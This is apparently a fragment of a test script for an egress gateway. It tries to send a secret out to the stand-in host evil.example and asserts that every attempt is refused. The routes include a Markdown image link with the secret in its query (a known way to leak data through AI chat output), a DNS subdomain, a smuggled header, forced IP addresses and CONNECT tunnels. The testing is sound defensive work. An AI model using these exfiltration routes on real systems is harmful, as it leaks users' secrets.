# The picture in Markdown that carries a secret away: ![](https://evil.example/log?data=SECRET), rendered by whatever means.
# Argument: JSON {"suffix": random}.
import urllib.error
import urllib.request

secret = f"secret-{json.loads(sys.argv[1])['suffix']}"


def load(url, proxies):
    """As an honest program loads a picture: the body, or the error."""
    handlers = [urllib.request.ProxyHandler(proxies), urllib.request.HTTPSHandler(context=CONTEXT)]
    try:
        with urllib.request.build_opener(*handlers).open(url, timeout=8) as answer:
            return answer.read(4096).decode()
    except (OSError, urllib.error.URLError) as error:
        return f"!{error}"


picture = f"/log?data={secret}"
for what, proxies in [("by DNS", {}), ("by the proxy variables", None)]:
    seen = load("https://allowed.example/ok", proxies)
    twin(18, f"the allowed host {what}", '"sni":"allowed.example"' in seen.replace(" ", ""), seen)
seen = load(f"https://evil.example{picture}", {})
attack(18, "the picture is refused at DNS", seen.startswith("!") and "not known" in seen, seen)
seen = load(f"https://evil.example{picture}", None)
attack(46, "the picture is refused at the proxy", seen.startswith("!") and "403" in seen, seen)
seen = load(f"http://evil.example{picture}", {})
attack(18, "the picture without TLS is refused at DNS", seen.startswith("!"), seen)
seen = load(f"http://evil.example{picture}", None)
attack(48, "the picture without TLS is refused at the proxy", seen.startswith("!") and "403" in seen, seen)
reply = resolve("evil.example")
attack(18, "DNS knows no such name", rcode(reply) == 3 and b"NoRule" in reply, reply)
reply = resolve(f"{secret}.evil.example")
attack(18, "DNS carries no secret", rcode(reply) == 3, reply)
attack(30, "forced to the gateway's address, at SNI", first(hello("evil.example")) == DENIED)
seen = reach("evil.example", picture)
attack(30, "forced to the gateway's address, a whole client", "error" in seen, short(seen))
answer = get("evil.example", picture)
attack(48, "forced to the gateway's address, at Host", status(answer) == 403, short(answer))
answer = get("web.example", picture, f"X-Data: {secret}\r\n")
attack(58, "on an allowed host, a path that is not", status(answer) == 403, short(answer))
for address in ["203.0.113.9", "203.0.113.8"]:
    for name in ["evil.example", "allowed.example"]:
        seen = reach(name, picture, address)
        attack(66, f"forced to {address}, as {name}", "error" in seen, short(seen))
for target in ["evil.example:443", "203.0.113.9:443", "evil.example.:443", "EVIL.example:443", "denied.example:443"]:
    answer = connect(target)
    attack(46, f"CONNECT {target}", status(answer) == 403, short(answer))
seen = through("allowed.example:443", "evil.example", picture)
attack(31, "CONNECT to the allowed host, the evil one inside", "error" in seen, short(seen))
finish()
